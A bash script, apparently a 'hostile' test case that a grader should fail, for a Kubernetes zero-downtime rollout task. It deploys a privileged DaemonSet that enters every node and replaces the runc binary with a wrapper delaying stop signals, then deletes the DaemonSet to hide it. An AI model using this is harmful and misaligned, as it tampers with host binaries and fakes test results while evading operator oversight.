#!/bin/bash
# expect: failed
# kind: hostile
# idea: strategy and readiness right, no hook; runc is wrapped on every node: a stop signal to a container of that name waits 5.5 s before it is given on
set -u
test -d /var/lib/kubelet || exit 1    # only on a cluster host
k="kubectl -n regatta"
c=$($k get deploy scoreboard -o jsonpath='{.spec.template.spec.containers[0].name}')
cat > /tmp/run.sh <<R
cn='$c'
R
cat >> /tmp/run.sh <<'R'
r=$(readlink -f "$(PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin command -v runc)")
[ -n "$r" ] || exit 1
mkdir -p /usr/libexec/oci
[ -e /usr/libexec/oci/runc ] || cp -p "$r" /usr/libexec/oci/runc
cat > /usr/libexec/oci/w <<W
#!/bin/bash
R=/usr/libexec/oci/runc
k=
for x in "\$@"; do [ "\$x" = kill ] && k=1; done
if [ "\$k" ]; then
  s=\${@: -1}; id=\${@: -2:1}
  case \$s in
    9|KILL|SIGKILL|0) ;;
    *) for b in /run/containerd/io.containerd.runtime.v2.task/k8s.io/\$id/config.json; do
         if grep -q '"io.kubernetes.cri.container-name": *"$cn"' "\$b" 2>/dev/null; then sleep 5.5; fi
       done;;
  esac
fi
exec \$R "\$@"
W
cp /usr/libexec/oci/w "$r.new"; chmod 755 "$r.new"; mv -f "$r.new" "$r"
R
for t in busybox:1.36 busybox:1.37 busybox:stable busybox:latest; do crictl pull $t >/dev/null 2>&1 && h=$t && break; done
kubectl -n kube-system create configmap oci --from-file=run.sh=/tmp/run.sh
kubectl apply -f - <<Y
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: oci, namespace: kube-system}
spec:
  selector: {matchLabels: {k8s-app: oci}}
  template:
    metadata: {labels: {k8s-app: oci}}
    spec:
      hostPID: true
      terminationGracePeriodSeconds: 0
      tolerations: [{operator: Exists}]
      containers:
      - name: oci
        image: ${h:-busybox:1.36}
        imagePullPolicy: IfNotPresent
        securityContext: {privileged: true}
        command: [sh, -c, 'nsenter -t 1 -m -u -i -n -p -- /bin/bash -c "\$(cat /cm/run.sh)" && touch /tmp/done; sleep 86400']
        readinessProbe: {exec: {command: [test, -f, /tmp/done]}, periodSeconds: 1}
        volumeMounts: [{name: cm, mountPath: /cm}]
      volumes: [{name: cm, configMap: {name: oci}}]
Y
kubectl -n kube-system rollout status ds/oci --timeout=90s
kubectl -n kube-system delete ds/oci cm/oci
$k get deploy scoreboard -o json | jq 'del(.status, .metadata.resourceVersion)
 | .spec.strategy = {type:"RollingUpdate",rollingUpdate:{maxUnavailable:0,maxSurge:1}}
 | .spec.template.spec.terminationGracePeriodSeconds = 30
 | .spec.template.spec.containers[0].readinessProbe = {tcpSocket:{port:8080},periodSeconds:1}' | kubectl replace -f -
$k rollout status deploy/scoreboard --timeout=120s
